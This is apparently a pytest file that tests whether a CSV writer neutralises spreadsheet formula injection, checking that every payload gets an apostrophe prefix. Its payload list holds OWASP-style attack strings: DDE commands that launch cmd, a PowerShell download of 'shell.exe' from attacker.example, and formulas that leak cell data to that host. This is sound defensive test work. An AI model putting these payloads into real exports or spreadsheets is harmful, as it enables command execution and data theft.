"""CSV injection (issue 17 point 6): every CSV cell that a spreadsheet could run as a formula is
neutralised, for the OWASP payloads, their full-width forms and after a leading separator.

The check of the written cells is independent of ``checkpoint.spreadsheet``: a cell is safe when
it starts with the apostrophe, or when its first character after the spaces, quotes and
separators a spreadsheet skips is none of the triggers written out here by hand.
"""

from __future__ import annotations

import csv
import io
import re

import pytest

from checkpoint.spreadsheet import safe_cell, write_csv
from reports.tables import Table, count, text

# OWASP "CSV Injection" (https://owasp.org/www-community/attacks/CSV_Injection) and the
# payloads it cites (PayloadsAllTheThings "CSV Injection"), with the variants the issue names.
OWASP_PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
    '=HYPERLINK("http://attacker.example/?leak="&A1&A2, "Error: please click here")',
    '=HYPERLINK("http://attacker.example")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-1+1",
    "=2+5+cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")A0',
    '=IMPORTXML(CONCAT("http://attacker.example/?v=", CONCATENATE(A2:E2)), "//a")',
    '=IMPORTRANGE("https://docs.google.com/spreadsheets/d/x", "sheet1!A2:E2")',
    '=IMAGE("https://attacker.example/pixel.png?x="&A1)',
    '=WEBSERVICE("http://attacker.example/?x="&A1)',
    "=1+1",
    "=SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\t",
    "\r",
    "\n-3+3+cmd|' /C calc'!D2",
    # after a leading separator, space or quote (spreadsheets skip these)
    ";=1+1",
    ",=1+1",
    "|=1+1",
    " =1+1",
    "  +1+1",
    "\u00a0=1+1",
    '"=1+1',
    "; ;=1+1",
    ";@SUM(1+1)",
    # full-width and small forms (NFKC maps them onto = + - @)
    "\uff1d1+1",  # full-width equals
    "\uff0bcmd|' /C calc'!A0",  # full-width plus
    "\uff0d1+1",  # full-width minus
    "\uff20SUM(1+1)",  # full-width at
    ";\uff1d1+1",
    ' \uff1dHYPERLINK("http://attacker.example")',
    "\ufe661+1",  # ﹦ small equals
    "\ufe62 1",  # ﹢
    "\ufe631",  # ﹣
    "\ufe6bSUM(1)",  # ﹫
    "\u3000=1+1",  # ideographic space
    "\u200b=1+1",  # zero-width space
]
# Text a spreadsheet shows as it is: written unchanged.
HARMLESS = ["Durham North", "A&E", "[c]", "[x]", "12", "-3", "+1.5", "0.250", "", "a=b", "x-y"]

TRIGGERS = "=+-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b"
SKIPPED = re.compile(r"^[\s\u00a0\u3000\u200b\"'`,;|]*")


def looks_safe(cell: str) -> bool:
    if cell.startswith("'") or re.fullmatch(r"[+-]?[0-9]+(\.[0-9]+)?", cell):
        return True  # neutralised, or a plain number
    rest = SKIPPED.sub("", cell)
    return not cell[:1].isspace() and not (rest and rest[0] in TRIGGERS)


def read_back(data: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data, newline="")))


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_every_owasp_payload_is_neutralised(payload):
    assert not looks_safe(payload)  # the check would catch it unneutralised
    written = safe_cell(payload)
    assert written == "'" + payload  # neutralised, nothing of it lost
    assert looks_safe(written)


@pytest.mark.parametrize("value", HARMLESS)
def test_plain_text_and_numbers_are_written_as_they_are(value):
    assert safe_cell(value) == value


def test_a_cell_already_starting_with_an_apostrophe_keeps_it_as_text():
    # Some spreadsheets drop one leading apostrophe on import: the second keeps it shown.
    assert safe_cell("'=1+1") == "''=1+1"


def test_write_csv_keeps_each_payload_in_its_own_cell():
    rows = [["Label", "Value"], *([payload, 1] for payload in OWASP_PAYLOADS)]
    back = read_back(write_csv(rows))
    assert back[0] == ["Label", "Value"]
    assert len(back) == len(OWASP_PAYLOADS) + 1
    for payload, row in zip(OWASP_PAYLOADS, back[1:], strict=True):
        assert row == ["'" + payload, "1"]
        assert looks_safe(row[0])


def test_every_cell_is_quoted_so_a_separator_never_starts_a_new_cell():
    # A spreadsheet set to a ";" locale splits an unquoted "a;=1+1" into "a" and "=1+1".
    written = write_csv([["a;=1+1", "b|@SUM(1)", 3]])
    assert written == '"a;=1+1","b|@SUM(1)","3"\r\n'


def test_report_tables_write_their_csv_through_the_helper():
    """Headers, row labels and totals of a report table, hostile or not."""
    hostile = Table(
        slug="t",
        caption="t",
        headers=["=Provider", "\uff0bCount"],
        rows=[[text(payload), count(5)] for payload in OWASP_PAYLOADS]
        + [[text("Durham North"), count(None)]],
        total_row=[text(";=total"), count(-2)],
    )
    back = read_back(hostile.to_csv())
    assert back[0] == ["'=Provider", "'\uff0bCount"]
    assert [row[0] for row in back[1:-2]] == ["'" + p for p in OWASP_PAYLOADS]
    assert back[-2] == ["Durham North", "[c]"]
    assert back[-1] == ["';=total", "-2"]  # a negative count is a number, not a formula
    assert all(looks_safe(cell) for row in back for cell in row)
